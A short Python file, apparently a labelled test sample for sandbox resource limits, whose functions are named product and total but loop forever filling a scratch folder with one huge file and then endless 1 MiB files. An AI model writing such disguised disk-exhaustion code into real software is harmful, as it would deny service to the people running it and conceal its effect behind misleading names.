"""Fills its scratch folder with one large file, then with many."""

HONEST = 0


def product(a, b):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def total(x):
    number = 0
    while True:
        number += 1
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
